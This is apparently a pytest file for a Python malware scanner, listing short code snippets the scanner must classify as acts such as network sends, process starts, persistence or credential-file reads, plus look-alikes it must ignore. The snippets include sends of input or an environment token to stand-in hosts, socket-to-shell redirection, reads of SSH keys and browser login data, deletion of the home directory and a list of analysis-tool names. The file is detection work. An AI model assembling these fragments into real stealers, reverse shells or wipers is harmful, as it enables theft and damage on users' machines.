"""Each kind of thing code does is a fact with its detail, and something that only looks like it is none."""

import pytest

from scanners.facts import Act
from tests.scanners.python.conftest import Read

URL = "https://x.example.invalid/a"
DONE: dict[str, tuple[str, Act, str]] = {
    "exec": ("exec('x = 1')", Act.CODE_EVAL, "x = 1"),
    "eval": ("eval('1 + 1')", Act.CODE_EVAL, "1 + 1"),
    "compile": ("compile('x = 1', 'x', 'exec')", Act.CODE_EVAL, "x = 1"),
    "interpreter": (
        ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'x = 1'])"),
        Act.CODE_EVAL,
        "x = 1",
    ),
    "run_path": ("import runpy\nrunpy.run_path('a.dat')", Act.CODE_LOAD, "a.dat"),
    "computed import": ("__import__('o' + 's')", Act.CODE_LOAD, "os"),
    "source loader": (
        ("from importlib.machinery import SourceFileLoader as L\nL('m', 'icon.png').load_module()"),
        Act.CODE_LOAD,
        "icon.png",
    ),
    "pickle": ("import pickle\npickle.loads(b'x')", Act.CODE_UNPACK, "pickle.loads"),
    "yaml": ("import yaml\nyaml.load(open('x'))", Act.CODE_UNPACK, "yaml.load"),
    "torch": ("import torch\ntorch.load('m.pt')", Act.CODE_UNPACK, "torch.load"),
    "system": ("import os\nos.system('id')", Act.PROCESS_START, "id"),
    "list": ("from subprocess import Popen as P\nP(['curl', '-s', 'x'])", Act.PROCESS_START, "curl -s x"),
    "execv": ("import os\nos.execv('/bin/sh', ['sh', '-i'])", Act.PROCESS_START, "sh -i"),
    "pty": ("import pty\npty.spawn('/bin/bash')", Act.PROCESS_START, "/bin/bash"),
    "asyncio process": (
        ("import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('ls', '-l')"),
        Act.PROCESS_START,
        "ls -l",
    ),
    "connect": (
        "import socket\ns = socket.socket()\ns.connect(('a.example.invalid', 4444))",
        Act.NETWORK_CONNECT,
        "a.example.invalid:4444",
    ),
    "send after connect": (
        "import socket\ns = socket.socket()\ns.connect(('a.example.invalid', 1))\ns.sendall(input().encode())",
        Act.NETWORK_SEND,
        "a.example.invalid:1",
    ),
    "post": (f"import requests\nrequests.post('{URL}', json={{'a': input()}})", Act.NETWORK_SEND, URL),
    "session": (f"import requests\ns = requests.Session()\ns.post('{URL}', data=input())", Act.NETWORK_SEND, URL),
    "httpx client": (
        f"import httpx\nwith httpx.Client() as c:\n    c.put('{URL}', content=input())",
        Act.NETWORK_SEND,
        URL,
    ),
    "aiohttp": (
        (
            "import aiohttp\nasync def f(x):\n    async with aiohttp.ClientSession() as s:\n"
            f"        async with s.post('{URL}', json=x) as r:\n            pass"
        ),
        Act.NETWORK_SEND,
        URL,
    ),
    "urllib request": (
        (f"import urllib.request as u\nr = u.Request('{URL}', data=input().encode())\nu.urlopen(r)"),
        Act.NETWORK_SEND,
        URL,
    ),
    "https connection": (
        "import http.client\nc = http.client.HTTPSConnection('x.example.invalid')\nc.request('POST', '/a', input())",
        Act.NETWORK_SEND,
        "x.example.invalid/a",
    ),
    "mail": (
        "import smtplib\ns = smtplib.SMTP('m.example.invalid', 25)\ns.sendmail('a', 'b', input())",
        Act.NETWORK_SEND,
        "m.example.invalid:25",
    ),
    "websocket": (
        "import websocket\nw = websocket.create_connection('wss://x.example.invalid')\nw.send(input())",
        Act.NETWORK_SEND,
        "wss://x.example.invalid",
    ),
    "webhook": (
        f"from discord_webhook import DiscordWebhook\nw = DiscordWebhook(url='{URL}', content=input())\nw.execute()",
        Act.NETWORK_SEND,
        URL,
    ),
    "unknown client": (f"def f(client, x):\n    client.post('{URL}', json=x)", Act.NETWORK_SEND, URL),
    "get": (f"import requests\nrequests.get('{URL}')", Act.NETWORK_FETCH, URL),
    "get with secret in the address": (
        ("import os, requests\nrequests.get('https://x.example.invalid/?k=' + os.environ['A_TOKEN'])"),
        Act.NETWORK_SEND,
        "https://x.example.invalid/?k={}",
    ),
    "retrieve": (f"import urllib.request\nurllib.request.urlretrieve('{URL}', 'a.exe')", Act.NETWORK_FETCH, URL),
    "listen": ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 99))", Act.NETWORK_LISTEN, "0.0.0.0:99"),
    "lookup": ("import socket\nsocket.gethostbyname('a.example.invalid')", Act.NETWORK_LOOKUP, "a.example.invalid"),
    "variable": ("import os\nos.environ['A_TOKEN']", Act.ENVIRONMENT_READ, "A_TOKEN"),
    "getenv": ("from os import getenv as g\ng('A')", Act.ENVIRONMENT_READ, "A"),
    "environment": ("import os\ndict(os.environ)", Act.ENVIRONMENT_READ, "*"),
    "environment items": ("import os\nfor k, v in os.environ.items(): pass", Act.ENVIRONMENT_READ, "*"),
    "read": ("open('/etc/passwd').read()", Act.FILE_READ, "/etc/passwd"),
    "path read": (
        "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
        Act.FILE_READ,
        "~/.ssh/id_rsa",
    ),
    "environment path": (
        "import os\nopen(os.environ['APPDATA'] + '\\\\discord\\\\Local Storage')",
        Act.FILE_READ,
        "%APPDATA%/discord/Local Storage",
    ),
    "unknown part of a path": (
        "import os\ndef f(x):\n    open(os.path.join(x, 'Login Data'))",
        Act.FILE_READ,
        "{}/Login Data",
    ),
    "sqlite": ("import sqlite3\nsqlite3.connect('a.db')", Act.FILE_READ, "a.db"),
    "write": ("with open('a', 'w') as f:\n    f.write(input())", Act.FILE_WRITE, "a"),
    "copy reads": ("import shutil\nshutil.copy2('a', 'b')", Act.FILE_READ, "a"),
    "copy writes": ("import shutil\nshutil.copy2('a', 'b')", Act.FILE_WRITE, "b"),
    "delete": ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", Act.FILE_DELETE, "~"),
    "walk": ("import os\nfor r, d, f in os.walk('/home'): pass", Act.FILE_WALK, "/home"),
    "mode": ("import os\nos.chmod('a', 0o755)", Act.FILE_MODE, "a"),
    "library": ("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", Act.NATIVE_LOAD, "libc.so.6"),
    "native call": ("import ctypes\nctypes.CDLL(None).mprotect(1, 2, 7)", Act.NATIVE_CALL, "mprotect"),
    "windows call": ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1)", Act.NATIVE_CALL, "VirtualAlloc"),
    "clipboard": ("import pyperclip\npyperclip.paste()", Act.CLIPBOARD_READ, ""),
    "clipboard write": ("import pyperclip\npyperclip.copy('x')", Act.CLIPBOARD_WRITE, "x"),
    "keys": ("from pynput.keyboard import Listener\nListener(on_press=print)", Act.INPUT_RECORD, "pynput"),
    "screen": ("from PIL import ImageGrab\nImageGrab.grab()", Act.SCREEN_CAPTURE, "PIL.ImageGrab.grab"),
    "camera": ("import cv2\ncv2.VideoCapture(0)", Act.CAMERA_CAPTURE, "cv2.VideoCapture"),
    "host": ("import socket\nsocket.gethostname()", Act.HOST_INSPECT, "socket.gethostname"),
    "public address": (
        "import requests\nrequests.get('https://api.ipify.org')",
        Act.HOST_INSPECT,
        "public address",
    ),
    "debugger": ("import sys\nsys.gettrace()", Act.HOST_ANALYSIS, "gettrace"),
    "analysts": (
        "BAD = ['vmtoolsd.exe', 'Wireshark.exe', 'x64dbg']",
        Act.HOST_ANALYSIS,
        "vmtoolsd.exe, Wireshark.exe, x64dbg",
    ),
    "patch": ("import requests\ndef f(*a): pass\nrequests.get = f", Act.HOST_PATCH, "requests.get"),
    "patch by text": ("import builtins\nsetattr(builtins, 'open', print)", Act.HOST_PATCH, "builtins.open"),
    "pip": (
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        Act.SOFTWARE_INSTALL,
        "pip install x",
    ),
    "run key": (
        (
            "import winreg as w\n"
            "k = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
            "w.SetValueEx(k, 'a', 0, w.REG_SZ, 'b')"
        ),
        Act.PERSISTENCE,
        r"Software\Microsoft\Windows\CurrentVersion\Run",
    ),
    "cron": ("import os\nos.system('crontab x')", Act.PERSISTENCE, "crontab x"),
    "profile": (
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        Act.PERSISTENCE,
        "~/.bashrc",
    ),
    "encrypt": (
        "from cryptography.fernet import Fernet\nFernet(input()).encrypt(open('a').read())",
        Act.ENCRYPT,
        "cryptography.fernet.Fernet().encrypt",
    ),
    "sleep": ("import time\ntime.sleep(5 * 60)", Act.SLEEP, "300"),
    "dup2": (
        "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
        Act.STREAM_TO_SOCKET,
        "dup2",
    ),
    "streams": (
        ("import socket, subprocess as p\ns = socket.socket()\np.Popen('sh', stdin=s, stdout=s)"),
        Act.STREAM_TO_SOCKET,
        "sh",
    ),
    "thread": ("import threading\ndef f(): pass\nthreading.Thread(target=f).start()", Act.STARTS_THREAD, "f"),
    "message": ("async def on_message(message):\n    print(message.content)", Act.USER_DATA, "message_text"),
    "update": ("def f(update, context):\n    return update.message.text", Act.USER_DATA, "message_text"),
    "profile data": ("def f(ctx):\n    return ctx.author", Act.USER_DATA, "profile"),
}
NOT_DONE: dict[str, tuple[str, Act]] = {
    "own exec": ("def exec(x): pass\nexec('x = 1')", Act.CODE_EVAL),
    "literal": ("import ast\nast.literal_eval('1')", Act.CODE_EVAL),
    "method called eval": ("def f(model):\n    model.eval()", Act.CODE_EVAL),
    "plain import by text": ("import importlib\nimportlib.import_module('json')", Act.CODE_LOAD),
    "safe yaml": ("import yaml\nyaml.load(open('x'), Loader=yaml.SafeLoader)", Act.CODE_UNPACK),
    "weights": ("import torch\ntorch.load('m.pt', weights_only=True)", Act.CODE_UNPACK),
    "json": ("import json\njson.loads('1')", Act.CODE_UNPACK),
    "own system": ("class A:\n    def system(self, x): pass\nA().system('id')", Act.PROCESS_START),
    "constant post is no send of data": (f"import requests\nrequests.get('{URL}', timeout=3)", Act.NETWORK_SEND),
    "bot's own answer": ("async def f(ctx):\n    await ctx.send('x' + ctx.author.name)", Act.NETWORK_SEND),
    "queue": ("import queue\nq = queue.Queue()\nq.put(input())", Act.NETWORK_SEND),
    "dictionary": ("def f(d):\n    return d.get('https')", Act.NETWORK_FETCH),
    "own environ": ("environ = {}\nenviron['A']", Act.ENVIRONMENT_READ),
    "membership": ("import os\n'A' in os.environ", Act.ENVIRONMENT_READ),
    "memory file": ("import io\nio.BytesIO(b'x').read()", Act.FILE_READ),
    "string replace": ("'a'.replace('a', 'b')", Act.FILE_WRITE),
    "unlink of a class": ("class A:\n    def unlink(self): pass\nA().unlink()", Act.FILE_DELETE),
    "few words": ("KINDS = ['xen', 'sandbox', 'docker', 'kvm']", Act.HOST_ANALYSIS),
    "own attribute": ("class A: pass\nA.x = 1\na = A()\na.get = 2", Act.HOST_PATCH),
    "instance setting": ("import requests\ns = requests.Session()\ns.verify = True", Act.HOST_PATCH),
    "streams of one's own": ("import sys, io\nsys.stdout = io.StringIO()", Act.HOST_PATCH),
    "list of installs": ("import subprocess\nsubprocess.run(['pip', 'list'])", Act.SOFTWARE_INSTALL),
    "other key": (
        "import winreg as w\nk = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Own')\nw.SetValueEx(k, 'a', 0, 1, 'b')",
        Act.PERSISTENCE,
    ),
    "reading a profile": ("import os\nopen(os.path.expanduser('~/.bashrc')).read()", Act.PERSISTENCE),
    "short sleep": ("import time\ntime.sleep(5)", Act.SLEEP),
    "dup2 of a file": ("import os\nos.dup2(open('a').fileno(), 1)", Act.STREAM_TO_SOCKET),
    "pipe": ("import subprocess as p\np.Popen('sh', stdin=p.PIPE)", Act.STREAM_TO_SOCKET),
    "content of a response": ("import requests\nr = requests.get('x')\nprint(r.content)", Act.USER_DATA),
    "decrypting": ("from cryptography.fernet import Fernet\nFernet(b'').decrypt(b'')", Act.ENCRYPT),
}


@pytest.mark.parametrize("name", DONE)
def test_what_code_does_is_a_fact(name: str, read_python: Read) -> None:
    source, act, detail = DONE[name]
    facts = read_python(source).facts
    assert (act, detail) in {(fact.act, fact.detail) for fact in facts}


@pytest.mark.parametrize("name", NOT_DONE)
def test_what_only_looks_like_it_is_none(name: str, read_python: Read) -> None:
    source, act = NOT_DONE[name]
    assert act not in {fact.act for fact in read_python(source).facts}
